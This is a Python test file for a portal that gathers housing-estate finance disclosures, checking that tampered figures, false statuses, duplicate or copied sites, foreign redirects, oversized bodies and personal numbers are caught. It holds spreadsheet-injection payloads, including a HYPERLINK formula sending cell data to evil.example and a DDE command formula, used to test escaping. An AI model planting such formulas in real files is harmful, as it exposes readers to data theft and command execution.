"""Hostile estates served on 127.0.0.1: a tampered month, a status its own dates deny,
one site registered twice or copied, a redirect to another host, a 200 MB body, a phone number
and a spreadsheet formula in a title.  Each is caught, said with its reason, and counted nowhere."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

import duckdb

from estate_sites import exports, write_site
from sunlight_gongshi.portal.build import build_portal
from test_portal_fetch import serve, statuses  # noqa: F401  (a fixture)
from test_sitereader import hostile  # noqa: F401  (a fixture)

REPO = Path(__file__).resolve().parent.parent


def registry(root: Path, estates: list[tuple[str, str]], head: str = "") -> Path:
    lines = [head + "estates:"] if head else ["estates:"]
    for ident, site in estates:
        lines += [f"  - id: {ident}", f"    name: 小区{ident}", "    neighbourhood: 示例社区", f"    site: {site!r}"]
    (root / "registry.yml").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return root / "registry.yml"


def published_estates(root: Path, table: str = "finance_months") -> list[str]:
    return [e for (e,) in duckdb.sql(f"SELECT DISTINCT estate FROM '{root}/site/data/{table}.parquet' ORDER BY 1"
                                     ).fetchall()]


def reasons(rows) -> dict[str, str]:
    return {r.estate.id: r.reason for r in rows}


def test_a_month_tampered_by_400000_yuan_is_unverified_naming_the_row(tmp_path, serve):
    tampered = exports(6)
    tampered["finance"]["months"][4]["closing"] = "416021.75"       # and the manifest made again over it
    write_site(tmp_path / "sites/t", tampered)
    write_site(tmp_path / "sites/a", exports(1))
    urls = {name: serve(tmp_path / "sites" / name).url for name in ("a", "t")}
    problems, built, rows = build_portal(registry(tmp_path, [("a", urls["a"]), ("t", urls["t"])]))
    assert built and statuses(tmp_path) == {"a": "ok", "t": "unverified"}
    reason = ("data/finance.json 的 months 第 5 行（2024-02 revenue）自相矛盾：月初 13,879.53 + 收入 3,132.79 − 支出 990.57 "
              "= 16,021.75，月末却写的是 416,021.75（相差 400,000.00）")
    assert reasons(rows)["t"] == reason
    assert [p.text() for p in problems] == [
        f"registry.yml:6: warning: 小区 t（小区t）没有通过核验，不计入汇总：{reason}  [W-PORTAL-UNVERIFIED]"]
    assert published_estates(tmp_path) == ["a"]
    fund = duckdb.sql(f"SELECT sum(balance) FROM '{tmp_path}/site/data/finance_accounts.parquet'").fetchall()[0][0]
    assert fund == sum(Decimal(a["balance"]) for a in exports(1)["finance"]["accounts"])


def test_a_status_its_own_dates_deny_is_unverified_and_leaves_the_ranking(tmp_path, serve):
    liar = exports(7)
    row = next(r for r in liar["disclosure"] if r["status"] == "late")
    row["status"] = "on_time"                                           # published after due, labelled on time
    write_site(tmp_path / "sites/liar", liar)
    write_site(tmp_path / "sites/a", exports(1))
    urls = {name: serve(tmp_path / "sites" / name).url for name in ("a", "liar")}
    _problems, _built, rows = build_portal(registry(tmp_path, [("a", urls["a"]), ("liar", urls["liar"])]))
    index = liar["disclosure"].index(row) + 1
    assert reasons(rows)["liar"] == (
        f"data/disclosure.json 第 {index} 行（{row['account']} {row['period']}）标为“按时公开”（on_time），但公开日 "
        f"{row['published']} 晚于截止日 {row['due']}，应为“迟公开”")
    board = (tmp_path / "site/list/timeliness-1.html").read_text(encoding="utf-8")
    assert "estate/a.html" in board and "estate/liar.html" not in board


def test_one_site_registered_twice_is_an_error_of_the_registry_at_the_second_entry(tmp_path, serve, capsys):
    write_site(tmp_path / "sites/a", exports(1))
    url = serve(tmp_path / "sites/a").url                               # http://127.0.0.1:PORT/
    path = registry(tmp_path, [("a", url), ("b", url.rstrip("/").upper().replace("HTTP://", "https://"))])
    problems, built, rows = build_portal(path)
    assert (built, rows) == (False, [])
    assert [p.text() for p in problems] == [
        f"registry.yml:9: error: 小区 b 的网站 {url.rstrip('/').upper().replace('HTTP://', 'https://')} 与第 5 行的小区 a"
        "（小区a）是同一个网站：同一个网站登记两次，它的数字会算两遍；请删掉多余的一条，或改成这个小区自己的网站  [E-SITE-DUPLICATE]"]
    from sunlight_gongshi.cli import main
    assert main(["portal", str(path)]) == 1
    assert not (tmp_path / "site").exists()


def test_two_estates_publishing_the_same_build_are_both_unverified(tmp_path, serve):
    write_site(tmp_path / "sites/a", exports(1), commit="c" * 40)
    write_site(tmp_path / "sites/copy", exports(1), commit="c" * 40)   # the same commit and files, another address
    write_site(tmp_path / "sites/b", exports(2))
    urls = {name: serve(tmp_path / "sites" / name).url for name in ("a", "copy", "b")}
    problems, built, rows = build_portal(registry(tmp_path, [(n, urls[n]) for n in ("a", "copy", "b")]))
    assert statuses(tmp_path) == {"a": "unverified", "copy": "unverified", "b": "ok"}
    assert reasons(rows)["a"] == ("与小区 copy（小区copy，登记文件第 6 行）的文件清单相同（提交 cccccccccccc、同样的数据文件）："
                                  "是同一个网站登记成了两个小区，或一个小区用了另一个小区的数据；两个都不计入")
    assert reasons(rows)["copy"].startswith("与小区 a（小区a，登记文件第 2 行）的文件清单相同")
    assert published_estates(tmp_path) == ["b"]
    build_portal(tmp_path / "registry.yml")           # the next run, with nothing fetched again: the same verdicts
    assert statuses(tmp_path) == {"a": "unverified", "copy": "unverified", "b": "ok"}
    registry(tmp_path, [("a", urls["a"]), ("b", urls["b"])])
    build_portal(tmp_path / "registry.yml")           # the copy leaves the registry: a counts again
    assert statuses(tmp_path) == {"a": "ok", "b": "ok"}


def test_a_redirect_to_another_host_is_unreachable_and_its_data_counts_once(tmp_path, serve, hostile):
    write_site(tmp_path / "sites/a", exports(1))
    a = serve(tmp_path / "sites/a")
    elsewhere = a.url.replace("127.0.0.1", "localhost")
    mover = hostile({f"/data/{name}": (301, {"Location": elsewhere + f"data/{name}"}, b"")
                     for name in ("manifest.json", "finance.json")})
    write_site(tmp_path / "sites/half", exports(2))
    half_files = {f"/{p.relative_to(tmp_path / 'sites/half').as_posix()}": (200, {}, p.read_bytes())
                  for p in (tmp_path / "sites/half").rglob("*") if p.is_file()}
    half_files["/data/finance.json"] = (302, {"Location": elsewhere + "data/finance.json"}, b"")
    half = hostile(half_files)
    problems, _built, rows = build_portal(registry(tmp_path, [("a", a.url), ("mover", mover.url), ("half", half.url)]))
    assert statuses(tmp_path) == {"a": "ok", "mover": "unreachable", "half": "unreachable"}
    assert reasons(rows)["mover"] == (f"{mover.url}data/manifest.json 转到了另一个网站 {elsewhere}（只接受同一网站内的跳转）")
    assert reasons(rows)["half"] == (f"{half.url}data/finance.json 转到了另一个网站 {elsewhere}（只接受同一网站内的跳转）"
                                     "（文件清单读到了，数据文件没有读完）")
    assert published_estates(tmp_path) == ["a"]
    assert [p.code for p in problems] == ["W-PORTAL-UNREACHABLE", "W-PORTAL-UNREACHABLE"]


def test_the_registry_limits_bound_every_estate(tmp_path, serve, hostile):
    write_site(tmp_path / "sites/a", exports(1))
    files = {f"/{p.relative_to(tmp_path / 'sites/a').as_posix()}": (200, {}, p.read_bytes())
             for p in (tmp_path / "sites/a").rglob("*") if p.is_file()}
    files["/data/entries.csv"] = (200, {}, lambda: (b"x" * 65536 for _ in range(40)))   # 2.5 MB, no length declared
    big = hostile(files)
    slow = serve(tmp_path / "sites/a", "slow")
    path = registry(tmp_path, [("big", big.url), ("slow", slow.url)], head="limits:\n  megabytes: 1\n  seconds: 1\n")
    _problems, _built, rows = build_portal(path)
    assert statuses(tmp_path) == {"big": "unreachable", "slow": "unreachable"}
    assert reasons(rows)["big"] == (f"{big.url}data/entries.csv 太大：这个网站的文件合计超过 1 MB"
                                    "（文件清单读到了，数据文件没有读完）")
    assert reasons(rows)["slow"] in (f"{slow.url}data/manifest.json 超时", "超时：1 秒内没有取完")


PEAK = """
import json, resource, sys
from pathlib import Path
from sunlight_gongshi.portal.build import build_portal
problems, built, rows = build_portal(Path(sys.argv[1]))
peak = max(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss)
print(json.dumps({"peak_mb": peak / 1024, "rows": {r.estate.id: [r.status, r.reason] for r in rows}}))
"""


def test_two_200_mb_bodies_are_cut_at_the_budget_with_memory_bounded(tmp_path, hostile):
    def site(root: Path, name: str, seed: int, body: tuple | None) -> str:
        write_site(root / "sites" / name, exports(seed))
        routes = {f"/{p.relative_to(root / 'sites' / name).as_posix()}": (200, {}, p.read_bytes())
                  for p in (root / "sites" / name).rglob("*") if p.is_file()}
        if body is not None:
            routes["/data/finance.json"] = body
        return hostile(routes).url

    def peak(path: Path) -> dict:
        out = subprocess.run([sys.executable, "-c", PEAK, str(path)], capture_output=True, text=True, timeout=1200,
                             env={"PYTHONPATH": str(REPO / "generator"), "PATH": "/usr/bin:/bin"})
        assert out.returncode == 0, out.stderr[-2000:]
        return json.loads(out.stdout.strip().splitlines()[-1])
    endless = (200, {}, lambda: (b" " * 65536 for _ in range(200 * 16)))               # 200 MB, streamed
    declared = (200, {"Content-Length": str(200 * 1024 * 1024)}, lambda: (b" " * 65536 for _ in range(200 * 16)))
    # The default budget of bytes, and time enough that a busy machine meets the bytes first.
    head = "limits:\n  seconds: 900\n"
    found = peak(registry(tmp_path, [("stream", site(tmp_path, "stream", 1, endless)),
                                     ("declared", site(tmp_path, "declared", 2, declared))], head=head))
    assert found["rows"]["stream"][0] == found["rows"]["declared"][0] == "unreachable"
    assert found["rows"]["stream"][1].endswith("data/finance.json 太大：这个网站的文件合计超过 50 MB（文件清单读到了，数据文件没有读完）")
    assert found["rows"]["declared"][1].endswith("data/finance.json 太大：这个网站的文件合计超过 50 MB（文件清单读到了，数据文件没有读完）")
    # The same portal over two honest estates: the 400 MB offered cost little more, since a body being read
    # grows on disk, and one refused at the 50 MB budget is dropped with its file.
    (tmp_path / "honest").mkdir()
    honest = peak(registry(tmp_path / "honest", [("stream", site(tmp_path / "honest", "stream", 1, None)),
                                                  ("declared", site(tmp_path / "honest", "declared", 2, None))],
                           head=head))
    assert honest["rows"] == {"stream": ["ok", ""], "declared": ["ok", ""]}, honest["rows"]
    assert found["peak_mb"] < 300, found["peak_mb"]
    assert found["peak_mb"] - honest["peak_mb"] < 50, (found["peak_mb"], honest["peak_mb"])


PHONE, ID_NUMBER = "13912345678", "11010519491231002X"


def test_personal_numbers_in_what_estates_publish_are_masked_everywhere_and_the_estate_noted(tmp_path, serve):
    data = exports(8)
    data["decisions"][1]["title"] = f"更换电梯，联系人 {PHONE}"
    data["entries"][0][6] = "退款给 １３９ １２３４ ５６７８"                # full-width, in groups
    data["entries"][1][5] = f"王某 {ID_NUMBER}"
    data["finance"]["accounts"][0]["name"] = f"日常经费（出纳 {PHONE}）"
    write_site(tmp_path / "sites/p", data)
    bad = exports(9)
    bad["disclosure"][0]["status"] = PHONE                                 # a schema error quotes the value
    write_site(tmp_path / "sites/bad", bad)
    urls = {name: serve(tmp_path / "sites" / name).url for name in ("p", "bad")}
    problems, _built, rows = build_portal(registry(tmp_path, [("p", urls["p"]), ("bad", urls["bad"])]))
    assert statuses(tmp_path) == {"p": "ok", "bad": "unverified"}
    note = ("这个小区公开的数据里有 4 处手机号、身份证号或银行卡号，本站已遮盖（data/finance.json 的 name（第 1 行）、"
            "data/entries.csv 的 counterparty（第 2 行）、data/entries.csv 的 memo（第 1 行）、data/decisions.json 的 title"
            "（第 2 行））；请告诉小区删掉后重新发布")
    assert [p.text() for p in problems if p.code == "W-PORTAL-PRIVACY"] == [
        f"registry.yml:2: warning: 小区 p（小区p）：{note}  [W-PORTAL-PRIVACY]"]
    assert json.loads((tmp_path / "site/data/estates.json").read_text(encoding="utf-8"))[0]["reason"] == note
    assert "139****5678" in reasons(rows)["bad"] and PHONE not in reasons(rows)["bad"]
    site = tmp_path / "site"
    decisions = list(csv.DictReader(io.StringIO((site / "data/decisions.csv").read_text(encoding="utf-8"))))
    assert decisions[1]["title"] == "更换电梯，联系人 139****5678"
    con = duckdb.connect(str(site / "data/portal.duckdb"), read_only=True)
    assert con.execute("SELECT title FROM decisions WHERE id = '2024-002'").fetchall() == [("更换电梯，联系人 139****5678",)]
    assert duckdb.sql(f"SELECT memo, counterparty FROM '{site}/data/entries.parquet' LIMIT 2").fetchall() == [
        ("退款给 139****5678", "某某公司"), ("备注", "王某 110***********002X")]
    page = (site / "estate/p.html").read_text(encoding="utf-8")
    assert "日常经费（出纳 139****5678）" in page and note in page
    for path in site.rglob("*"):                                              # and nowhere in any form
        if path.is_file():
            data = path.read_bytes()
            assert PHONE.encode() not in data and ID_NUMBER.encode() not in data, path


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "＝1+1"]


def test_cells_a_spreadsheet_would_run_are_text_in_every_csv_and_as_published_elsewhere(tmp_path, serve):
    data = exports(8)
    for i, formula in enumerate(FORMULAS):
        data["decisions"][i]["title"] = formula
    data["entries"][0][6] = "\t=1+1"
    write_site(tmp_path / "sites/f", data)
    url = serve(tmp_path / "sites/f").url
    (tmp_path / "registry.yml").write_text(f"estates:\n  - {{id: f, name: '=cmd|calc', site: '{url}'}}\n", encoding="utf-8")
    build_portal(tmp_path / "registry.yml")
    site = tmp_path / "site/data"
    decisions = list(csv.DictReader(io.StringIO((site / "decisions.csv").read_text(encoding="utf-8"))))
    assert [d["title"] for d in decisions[:5]] == ["'" + f for f in FORMULAS]
    entries = list(csv.DictReader(io.StringIO((site / "entries.csv").read_text(encoding="utf-8"))))
    assert entries[0]["memo"] == "'\t=1+1" and entries[1]["memo"] == "备注"
    estates = list(csv.DictReader(io.StringIO((site / "estates.csv").read_text(encoding="utf-8"))))
    assert estates[0]["name"] == "'=cmd|calc"
    assert [t for (t,) in duckdb.sql(f"SELECT title FROM '{site}/decisions.parquet' LIMIT 5").fetchall()] == FORMULAS
    con = duckdb.connect(str(site / "portal.duckdb"), read_only=True)
    assert con.execute("SELECT name FROM estates").fetchall() == [("=cmd|calc",)]


def test_a_site_of_format_1_1_beside_sites_of_1_2(tmp_path, serve):
    write_site(tmp_path / "sites/old", exports(3, old=True))
    write_site(tmp_path / "sites/new", exports(4))
    urls = {name: serve(tmp_path / "sites" / name).url for name in ("old", "new")}
    _problems, _built, rows = build_portal(registry(tmp_path, [("old", urls["old"]), ("new", urls["new"])]))
    assert statuses(tmp_path) == {"old": "ok", "new": "ok"}
    assert {r.estate.id: r.reference_date for r in rows} == {"old": None, "new": "2025-03-01"}
    con = duckdb.connect(str(tmp_path / "site/data/portal.duckdb"), read_only=True)
    assert con.execute("SELECT estate, count(*) FROM community GROUP BY ALL").fetchall() == [("new", 1)]
    assert con.execute("SELECT DISTINCT estate, emergency IS NULL FROM entries ORDER BY 1").fetchall() == [
        ("new", False), ("old", True)]
